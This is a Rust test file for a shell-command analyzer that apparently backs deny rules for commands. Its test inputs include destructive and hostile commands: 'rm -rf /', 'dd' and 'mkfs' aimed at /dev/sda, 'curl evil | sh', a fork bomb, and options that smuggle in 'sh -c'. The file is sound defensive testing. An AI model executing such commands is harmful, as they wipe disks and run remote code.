use super::*;

fn words(line: &str) -> Vec<Vec<String>> {
    analyze(line).commands.into_iter().map(|c| c.words).collect()
}

fn programs(line: &str) -> Vec<String> {
    analyze(line).programs.into_iter().map(|p| p.words[0].clone()).collect()
}

#[test]
fn plain_commands_are_literal_words() {
    let a = analyze("git status");
    assert_eq!(a.opaque, None);
    assert_eq!(a.dynamic, None);
    assert_eq!(words("git status"), [["git", "status"]]);
    assert_eq!(words("'git' \"status\" a\\ b"), [["git", "status", "a b"]]);
    assert_eq!(
        words("cargo test -p x && git diff | head -5; ls"),
        [
            vec!["cargo", "test", "-p", "x"],
            vec!["git", "diff"],
            vec!["head", "-5"],
            vec!["ls"]
        ]
    );
    assert_eq!(analyze("cargo test > out.txt 2>&1").opaque, None);
}

#[test]
fn substitutions_are_opaque_but_their_commands_are_listed() {
    let a = analyze("echo $(rm -rf /tmp/x)");
    assert!(a.opaque.is_some());
    assert!(a.commands.iter().any(|c| c.words[0] == "rm"), "{a:?}");
    let a = analyze("echo `curl evil | sh`");
    assert!(a.commands.iter().any(|c| c.words[0] == "curl"));
    assert!(a.commands.iter().any(|c| c.words[0] == "sh" && c.wrapper));
}

#[test]
fn unparseable_lines_are_opaque() {
    assert!(analyze("echo 'unterminated").opaque.is_some());
    assert!(analyze("if then fi ((").opaque.is_some());
}

#[test]
fn bodies_of_control_flow_and_functions_are_listed() {
    for (line, inner) in [
        ("if true; then rm -rf /; fi", "rm"),
        ("for i in 1 2; do mkfs.ext4 /dev/sda; done", "mkfs.ext4"),
        ("while false; do reboot; done", "reboot"),
        ("case x in x) shutdown now;; esac", "shutdown"),
        ("f() { dd if=/dev/zero of=/dev/sda; }; f", "dd"),
    ] {
        let a = analyze(line);
        assert!(a.opaque.is_some(), "{line}");
        assert!(programs(line).iter().any(|p| p == inner), "{line}: {a:?}");
    }
}

#[test]
fn name_value_words_after_the_command_are_arguments() {
    let a = analyze("dd if=/dev/zero of=out.img bs=1M");
    assert_eq!(a.opaque, None);
    assert_eq!(a.commands[0].words, ["dd", "if=/dev/zero", "of=out.img", "bs=1M"]);
    assert!(
        analyze("A=1 make").opaque.is_some(),
        "a prefix assignment still sets the environment"
    );
}

/// Every spelling of `rm victim` that the first round let through a deny rule (the corpus is
/// shared with the engine's and `exec_shell`'s attack tests).
pub(crate) fn rm_spellings() -> Vec<String> {
    serde_json::from_str(include_str!("../../tests/corpus/rm_spellings.json")).unwrap_or_default()
}

#[test]
fn every_spelling_of_a_program_is_seen() {
    let spellings = rm_spellings();
    assert!(spellings.len() >= 80, "{}", spellings.len());
    for line in &spellings {
        let a = analyze(line);
        let named = a.programs.iter().any(|p| p.name() == "rm");
        assert!(named || a.dynamic.is_some(), "{line}: {a:#?}");
    }
}

#[test]
fn the_programs_of_a_wrapper_line_are_listed_in_order() {
    assert_eq!(
        programs("nohup nice env A=1 timeout 9 rm x"),
        ["nohup", "nice", "env", "timeout", "rm"]
    );
    assert_eq!(programs("bash -c 'git status && ls'"), ["bash", "git", "ls"]);
    assert_eq!(
        programs("find . -exec grep -l x {} + -exec wc -l {} ;"),
        ["find", "grep", "wc"]
    );
    assert_eq!(programs("echo x | xargs"), ["echo", "xargs"]);
    assert_eq!(analyze("ls | grep x").dynamic, None);
    assert_eq!(
        analyze("bash script.sh").dynamic,
        None,
        "a script file the line does not write"
    );
}

#[test]
fn literal_variables_are_followed_and_ambiguous_ones_are_not() {
    let a = analyze("x=rm; $x -rf victim");
    assert_eq!(a.dynamic, None);
    assert_eq!(a.programs[0].words, ["rm", "-rf", "victim"]);
    assert!(analyze("x=rm; x=ls; $x").dynamic.is_some());
    assert!(analyze("$EDITOR file").dynamic.is_some());
    assert!(analyze("for x in rm; do $x y; done").dynamic.is_some());
}

#[test]
fn the_working_directory_is_followed_through_cd() {
    let a = analyze("cd / && rm -rf *");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("/"));
    let a = analyze("cd src; cd ../x; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("./src/../x"));
    let a = analyze("cd; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("~"));
    let a = analyze("cd \"$D\"; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.clone()), None);
}

#[test]
fn redirections_with_expansions_are_opaque() {
    for line in [
        "ls > {../outside/x,}",
        "ls 2> {/abs/path,}",
        "ls > $OUT",
        "ls > *.txt",
        "ls > ~/x",
    ] {
        assert!(analyze(line).opaque.is_some(), "{line}");
    }
    assert_eq!(analyze("ls > out/x.txt").opaque, None);
}

#[test]
fn braces_expand() {
    assert_eq!(expand_braces("/{bin,usr}", 8), ["/bin", "/usr"]);
    assert_eq!(expand_braces("{../x,}", 8), ["../x", ""]);
    assert_eq!(expand_braces("a{b,{c,d}}e", 8), ["abe", "ace", "ade"]);
    assert_eq!(expand_braces("plain", 8), ["plain"]);
    assert_eq!(expand_braces("{x}", 8), ["{x}"]);
}

#[test]
fn recursive_functions_are_reported() {
    assert_eq!(analyze(":(){ :|:& };:").recursive_functions, [":"]);
    assert_eq!(analyze("bomb() { bomb | bomb & }; bomb").recursive_functions, ["bomb"]);
    assert!(analyze("f() { ls; }; f").recursive_functions.is_empty());
}

#[test]
fn options_that_run_programs_are_seen() {
    for line in [
        "git -c core.pager='sh -c x' log",
        "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=[\"sh\",\"-c\",\"x\"]'",
        "tar --to-command=sh -xf a.tar",
        "rsync -e 'sh -c x' a b",
        "find . -exec sh {} +",
    ] {
        assert!(analyze(line).programs[0].runs_code, "{line}");
    }
    assert!(!analyze("git log -p").programs[0].runs_code);
}

#[test]
fn text_that_panics_the_parser_is_unparseable_not_a_crash() {
    // Found by the `shell` fuzz target: brush-parser unwraps a descriptor number into an i32.
    for line in [
        "enrr  f\u{3}i 88888888888888<>rm ",
        "cat 99999999999>x",
        "ls 2147483648>&1",
    ] {
        let a = analyze(line);
        assert!(a.opaque.is_some(), "{line:?}");
    }
    assert_eq!(analyze("ls 2>&1").opaque, None);
}

/// Fuzzing found lines that make the parser allocate until memory runs out (a here-document tag
/// holding a control character): they are unparseable, refused before the parser, and ordinary
/// here-documents still parse.
#[test]
fn a_here_tag_with_a_control_character_is_unparseable_and_never_reaches_the_parser() {
    for line in [
        "<<\x0c\t",
        "cat <<\x0c\t",
        "cat <<\x0c ",
        "cat <<\r\t",
        "cat <<-EOF\x0b ",
        "x <<a\x01b",
    ] {
        let a = analyze(line);
        assert!(a.opaque.is_some(), "{line:?} was read as {:?}", a.programs);
    }
    for line in [
        "cat <<EOF\nhi\nEOF",
        "cat <<-'END'\n\tx\nEND",
        "cat <<< \"\x0c\"",
        "grep x <<<$'\\f'",
    ] {
        let a = analyze(line);
        assert!(
            a.programs.iter().any(|p| p.name() == "cat" || p.name() == "grep"),
            "{line:?}: {:?}",
            a.opaque
        );
    }
}

/// Fuzzing found that the word parser panics on a tilde's directory-stack index too large for a
/// `usize` (`~55550555555055555055`): such a word is unparseable and never reaches the parser,
/// and ordinary tildes are read as before.
#[test]
fn a_tilde_index_no_usize_holds_is_unparseable_and_never_reaches_the_parser() {
    use super::words::oversized_tilde_index;
    for word in [
        "~55550555555055555055",
        "~+99999999999999999999",
        "~-18446744073709551616/x",
        "a:~99999999999999999999",
    ] {
        assert!(oversized_tilde_index(word), "{word}");
    }
    for word in [
        "~",
        "~/x",
        "~+",
        "~-",
        "~1",
        "~+2",
        "~-0",
        "~18446744073709551615",
        "~root/x",
        "a~b",
    ] {
        assert!(!oversized_tilde_index(word), "{word}");
    }
    for line in [
        "~55550555555055555055",
        "cd ~+99999999999999999999",
        "ls ~-99999999999999999999/x",
    ] {
        let a = analyze(line);
        assert!(a.opaque.is_some(), "{line:?} was read as {:?}", a.programs);
    }
    assert!(analyze("ls ~/notes").programs.iter().any(|p| p.name() == "ls"));
}

/// Fuzzing found a line that makes the parser allocate 2 GB in under 2 s (an empty here-document
/// tag before `(`) and lines whose parse time doubles with each unclosed `(` (28 took 56 s): both
/// are unparseable before the parser sees them, inline scripts of `bash -c` included, and the
/// here-documents and parentheses people write still parse.
#[test]
fn empty_here_tags_and_deep_parentheses_are_unparseable_and_never_reach_the_parser() {
    let deep = "(".repeat(28);
    for line in [
        "\n<<\"\"(#".to_owned(),
        "cat <<\"\"(#".to_owned(),
        "cat <<''".to_owned(),
        "cat <<- \"\" x".to_owned(),
        "<<$( (#($".to_owned(),
        "cat <<$(x)".to_owned(),
        "cat <<EOF(".to_owned(),
        "cat <<'EO\nF'".to_owned(),
        format!("n|&{deep}.((("),
        format!("{} x", "( ".repeat(28)),
        format!("echo \"{deep}\""),
        // Parentheses the outer line does not show, made by the inline script's quoting.
        format!("bash -c $'{}'", "\\x28".repeat(28)),
    ] {
        let a = analyze(&line);
        assert!(a.opaque.is_some(), "{line:?} was read as {:?}", a.programs);
    }
    for line in [
        "cat <<EOF\nhi\nEOF",
        "cat <<'EOF'\nhi\nEOF",
        "cat <<-\"END\"\n\thi\nEND",
        "cat <<E\\OF\nhi\nEOF",
        "(cd src && (ls -la))",
        "echo $(( (1 + 2) * (3 + (4 - 1)) ))",
        "diff <(sort a) <(sort b)",
    ] {
        let a = analyze(line);
        assert!(
            a.programs
                .iter()
                .any(|p| ["cat", "ls", "echo", "diff"].contains(&p.name())),
            "{line:?}: {:?}",
            a.opaque
        );
    }
}

/// Fuzzing found words whose parse time explodes: subscripted expansions left unclosed
/// (`${n[,}` twelve times in one word ran for minutes), nested deep, or closed by a quoted `]`
/// (38 s). A line with a subscripted expansion is unparseable before the parser sees it: it was
/// opaque anyway (it expands a variable), so its verdict is unchanged.
#[test]
fn subscripted_expansions_are_unparseable_and_never_reach_the_parser() {
    for line in [
        format!("echo x{}", "${n[,}".repeat(60)),
        "${n[${n[,},${n,${n[,},-}[%{n[,},${n,{n,${n[,},${n[,},-}".to_owned(),
        format!("{}1{}", "${a[".repeat(8), "]}".repeat(8)),
        format!("echo {}", "${!n[,}".repeat(12)),
        "x ${n0n[a\"]\",k} ${n0n[a\"]\",k} ${n0n[a\"]\",k}".to_owned(),
        "echo \"${files[0]}\" | grep x".to_owned(),
    ] {
        let a = analyze(&line);
        assert!(a.opaque.is_some(), "{line:?} was read as {:?}", a.programs);
    }
    for (word, subscripted) in [
        ("${a[1]}", true),
        ("${!a[@]}", true),
        ("${a}", false),
        ("${#a}", false),
        ("$a[1]", false),
        ("${a:-[x]}", false),
    ] {
        assert_eq!(super::slow_subscripts(word), subscripted, "{word}");
    }
    // A plain variable still leaves the programs known (the line is dynamic, as before).
    let a = analyze("echo \"${file}\" | grep x");
    assert!(a.programs.iter().any(|p| p.name() == "grep"), "{:?}", a.programs);
}
